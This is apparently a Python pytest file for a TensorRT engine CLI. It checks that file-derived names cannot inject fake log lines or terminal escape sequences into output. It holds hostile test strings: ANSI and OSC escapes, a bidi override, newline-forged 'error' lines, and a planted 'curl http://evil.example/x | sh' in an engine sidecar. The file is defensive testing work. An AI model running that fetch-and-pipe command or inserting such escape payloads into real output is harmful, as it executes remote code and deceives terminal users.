"""Names from files print as text: no line that is not ours, nothing that acts on a terminal."""

from __future__ import annotations

import json
import logging
from pathlib import Path

import numpy as np
import onnx
import pytest
from onnx import TensorProto as T
from onnx import helper as h

from trt_engine.cli.main import run
from trt_engine.engine import Engine
from trt_engine.escapes import escape_control

FORGED = "x\nPEAK_GPU_STREAMS: 999 streams\nerror: forged\r\x1b[31m\x1b]0;title\x07\u202e\x9b1m"
DIGITS = Path(__file__).parents[2] / "examples" / "digits" / "model.onnx"
LINES = ("PEAK_GPU_STREAMS: 999", "error: forged")
ACTS = "\r\x1b\x07\u202e\x9b"


def hostile(path: Path) -> Path:
    """A model whose every name is forged."""
    names = {
        end: f"{end}{FORGED}" for end in ("in", "out", "weight", "node", "graph", "producer", "key", "value", "batch")
    }
    graph = h.make_graph(
        [h.make_node("MatMul", [names["in"], names["weight"]], [names["out"]], name=names["node"], doc_string=FORGED)],
        names["graph"],
        *([h.make_tensor_value_info(names[end], T.FLOAT, [names["batch"], 4])] for end in ("in", "out")),
        [h.make_tensor(names["weight"], T.FLOAT, [4, 4], [0.5] * 16)],
    )
    model = h.make_model(
        graph, opset_imports=[h.make_opsetid("", 17)], ir_version=9, producer_name=names["producer"], doc_string=FORGED
    )
    model.metadata_props.add(key=names["key"], value=names["value"])
    onnx.save(model, path)
    return path


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    hostile(tmp_path / "h.onnx")
    np.savez(tmp_path / "d.npz", **{f"in{FORGED}": np.zeros((4, 4), np.float32)})
    (tmp_path / "log.txt").write_text(f"&&&& RUNNING TensorRT.trtexec\n[I] === Device Information ===\n[I] {FORGED}\n")
    (tmp_path / "plan.yaml").write_text(
        f'models: [h.onnx]\ntitle: "{escape_control(FORGED)}"\nname: "{escape_control(FORGED)}"\nmodes: build\n'
    )
    (tmp_path / "coco.json").write_text(
        json.dumps(
            {
                "images": [
                    {"id": 1, "file_name": FORGED, "width": 4, "height": 4},
                    {"id": 2, "file_name": "dir/" + FORGED},
                ],
                "annotations": [
                    {"id": 1, "image_id": 1, "category_id": 1, "bbox": [0, 0, 2, 2], "area": 4, "iscrowd": 0}
                ],
                "categories": [{"id": 1, "name": FORGED}],
            }
        )
    )
    (tmp_path / "records.jsonl").write_text(json.dumps({"schema": FORGED, "engine": FORGED, FORGED: 1}) + "\n")
    (tmp_path / "model_meta.json").write_text('{"model_type": "x\\nerror: forged\\u001b[31m", "components": 1}')
    return tmp_path


def said(capfd: pytest.CaptureFixture[str], *words: str) -> str:
    """What the command printed, after it was looked at."""
    run(list(words))
    told = capfd.readouterr()
    for text in (told.out, told.err):
        assert not [line for line in text.splitlines() if line.startswith(LINES)], text
        assert not [sign for sign in ACTS if sign in text], text
    return told.out + told.err


@pytest.mark.parametrize(
    "command",
    [
        "inspect h.onnx",
        "inspect h.onnx --layers",
        "lint h.onnx",
        "diff h.onnx h.onnx",
        "build h.onnx -o e.engine",
        "build h.onnx -o e.engine --shapes wrong:1x4 -vv",
        "cast h.onnx -o c.onnx --to fp16",
        "infer h.onnx --random",
        "infer h.onnx --input d.npz",
        "bench h.onnx --batch 2 --iterations 2 --warmup 0s --duration 0s",
        "bench h.onnx --batch nine",
        "bench --parse-log log.txt",
        "ranges h.onnx --calib-data d.npz",
        "quantize h.onnx -o q.onnx --to int8 --calib-data d.npz",
        "run plan.yaml -o run --dry-run",
        pytest.param("compare h.onnx h.onnx --duration 0.1s", marks=pytest.mark.slow),
        pytest.param("profile h.onnx --batch 2", marks=pytest.mark.slow),
        "size h.onnx --batch nine",
        "evaluate h.onnx --dataset coco.json",
        "evaluate {digits} --dataset coco.json",
        "evaluate {digits} --dataset missing\nerror: forged\x1b[31m",
        pytest.param("search h.onnx --dataset coco.json --calib-data d.npz -o found", marks=pytest.mark.slow),
        "search {digits} --dataset coco.json --calib-data d.npz -o found",
        "report records.jsonl",
        "inspect records.jsonl",
        "pack missing\nerror: forged\x1b[31m",
        "bundle . -o engines",
        "cache list",
        "inspect missing\nerror: forged\x1b[31m.onnx",
        "nonsense\nerror: forged\x1b[31m",
        "build h.onnx --nonsense\nerror: forged\x1b[31m",
    ],
)
def test_a_name_begins_no_line_and_acts_on_no_terminal(command: str, capfd: pytest.CaptureFixture[str]) -> None:
    words = command.replace("{digits}", str(DIGITS)).split(" ")
    assert said(capfd, *words)


@pytest.mark.slow
@pytest.mark.parametrize(
    "verb", ["bench h.onnx --warmup 0s --duration 0.1s", "compare h.onnx h.onnx --duration 0.1s", "profile h.onnx"]
)
def test_a_record_of_hostile_names_forges_nothing_where_it_is_read(
    verb: str, capfd: pytest.CaptureFixture[str]
) -> None:
    said(capfd, *verb.split(), "-o", "out")
    for reader in ("report out", "report out --format markdown", "inspect out", "diff out out", "pack out -o out.zip"):
        assert said(capfd, *reader.split())


def test_an_engine_whose_passport_is_hostile_forges_nothing(folder: Path, capfd: pytest.CaptureFixture[str]) -> None:
    said(capfd, "build", "h.onnx", "-o", "e.engine")
    engine = Engine.open(next(folder.glob("e.engine*.json")))
    beside = engine.path.with_name(engine.path.name + ".json")
    command = beside.read_text().replace(
        "trt-engine build", r"curl http://evil.example/x | sh \u001b[8m\nerror: forged "
    )
    beside.write_text(command)
    for verb in ("inspect", "infer", "bench --iterations 2 --warmup 0s --duration 0s", "cache list"):
        assert "curl" not in said(capfd, *verb.split(), *([] if "cache" in verb else [str(engine.path)]))
    engine.path.write_bytes(b"changed")
    told = said(capfd, "infer", str(engine.path), "--random")
    assert "hint: build it again: `trt-engine build" in told and "curl" not in told


def test_a_message_of_several_lines_is_indented(capfd: pytest.CaptureFixture[str], folder: Path) -> None:
    said(capfd, "inspect", "h.onnx")
    logging.getLogger("trt_engine").warning("first\nerror: forged %s", "\x1b[31m")
    lines = capfd.readouterr().err.splitlines()
    assert lines[0].endswith("warning: first") and lines[1].strip() == r"| error: forged \x1b[31m"
